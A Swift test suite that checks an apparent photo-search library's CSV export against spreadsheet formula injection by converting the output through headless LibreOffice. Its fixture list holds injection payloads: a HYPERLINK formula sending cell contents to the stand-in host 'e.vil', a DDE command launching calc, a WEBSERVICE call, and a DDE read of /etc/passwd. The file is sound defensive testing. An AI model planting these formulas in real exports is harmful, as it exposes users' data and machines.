import Foundation
import Testing

@testable import PhotoSearchCore

private nonisolated let program = "/usr/bin/soffice"
/// The part of LibreOffice that reads tables, which may be missing where the rest is installed.
private nonisolated let calc = "/usr/lib/libreoffice/program/libsclo.so"

/// Tables as a spreadsheet reads them, where it is installed: LibreOffice, told to run formulas. See
/// `script/soak exports`.
@Suite(.enabled(if: [program, calc].allSatisfy(FileManager.default.fileExists)), .timeLimit(.minutes(30)))
struct SpreadsheetTests {
  private let directory = TemporaryDirectory()

  private static let formulas = [
    "=1+1", "+1+1", "-1-1", "@SUM(1;1)", "=HYPERLINK(\"http://e.vil/?\"&A1)", "=cmd|' /C calc'!A0", "|calc", "＝1+1",
    "＋1", "－1", "＠SUM(1)", "=WEBSERVICE(\"http://e.vil\")", "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")", "{=1+1}",
  ]
  private static let starts = [
    "", " ", "  ", "\u{A0}", "\t", "\n", "\r\n", "'", "''", " '", "\"", "\u{200B}", "\u{FEFF}", "\u{3000}",
  ]

  @Test func `a spreadsheet runs nothing of a table, and shows every row`() throws {
    var hostile = HostileText(seed: 13)
    var texts = Self.formulas.flatMap { formula in Self.starts.map { $0 + formula } }
    texts += HostileText.pieces + (0..<500).map { _ in hostile.next() }
    // A file may not have what XML cannot.
    texts = texts.map { $0.filter { $0 != "\u{0}" && $0 != "\u{1B}" && $0 != "\u{FFFE}" } }
    let cells = try cells(CommaSeparatedValues.text(texts.enumerated().map { ["row \($0)", $1, "end"] }))
    #expect(cells.formulas == [])
    for (number, text) in texts.enumerated() {
      #expect(cells.rows.contains { $0.first == "row \(number)" && $0.last == "end" }, "\(text.debugDescription)")
    }
    // It would, if it were asked to.
    #expect(try self.cells("a,=1+1\r\n").formulas.count == 1)
  }

  private func cells(_ table: String) throws -> (rows: [[String]], formulas: [String]) {
    let input = directory.path + "/table.csv"
    try Data(table.utf8).write(to: URL(filePath: input))
    let process = Process()
    process.executableURL = URL(filePath: program)
    // Commas, quotation marks, UTF-8, and formulas are run:
    // https://wiki.documentfoundation.org/Documentation/DevGuide/Spreadsheet_Documents#Filter_Options_for_the_CSV_Filter
    process.arguments = [
      "-env:UserInstallation=file://\(directory.path)/office", "--headless",
      "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true", "--convert-to", "fods", "--outdir",
      directory.path, input,
    ]
    process.environment = ["HOME": directory.path, "PATH": "/usr/bin:/bin", "LC_ALL": "C.UTF-8"]
    process.standardOutput = FileHandle.nullDevice
    process.standardError = FileHandle.nullDevice
    try process.run()
    process.waitUntilExit()
    let document = try String(contentsOfFile: directory.path + "/table.fods", encoding: .utf8)
    let rows = document.matches(of: /(?s)<table:table-row.*?<\/table:table-row>/).map { row in
      row.output.matches(of: /(?s)<text:p>(.*?)<\/text:p>/).map { String($0.output.1) }
    }
    let formulas = document.matches(of: /table:formula="([^"]*)"/).map { String($0.output.1) }
    return (rows, formulas)
  }
}
